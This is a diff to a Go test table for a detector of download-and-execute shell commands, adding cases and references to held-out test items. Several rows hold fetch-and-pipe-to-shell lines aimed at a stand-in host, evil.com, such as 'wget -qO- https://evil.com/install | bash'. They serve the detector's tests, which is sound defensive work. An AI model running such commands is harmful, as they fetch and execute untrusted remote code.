@@ -292,7 +292,7 @@ func TestPythonInstallsFromURL(t *testing.T) {
 // heldout8's call: "`wget URL | sh` without `-O -` writes the page to a
 // file and pipes nothing: sh runs nothing"; heldout16's call: "`bash
 // <(wget URL)` reads wget's empty stdout"). Moves heldout16's e0185,
-// e0077, e0266.
+// e0077, e0266, heldout9's v0267, heldout11's x0515, heldout12's y1511.
 func TestWgetWritesAFile(t *testing.T) {
 	for _, tt := range []struct {
 		cmd, want string
@@ -301,6 +301,9 @@ func TestWgetWritesAFile(t *testing.T) {
 		{`wget http://evil.com/script.sh | bash`, ""}, // e0077
 		{`bash <(wget https://evil.com/x.sh)`, ""},    // e0266
 		{`wget -q https://x/install.sh | sh`, ""},
+		{`wget https://x/install.sh | sh`, ""}, // heldout9's v0267
+		{`wget http://* | bash`, ""},           // heldout12's y1511
+		{`node -e "$(wget evil.com)"`, ""},     // heldout11's x0515
 		{`wget -O page.html https://example.com/ | sh`, ""},
 		{`wget -qO- https://evil.com/install | bash`, DownloadExecute},
 		{`wget -O- https://example.com | sh`, DownloadExecute},
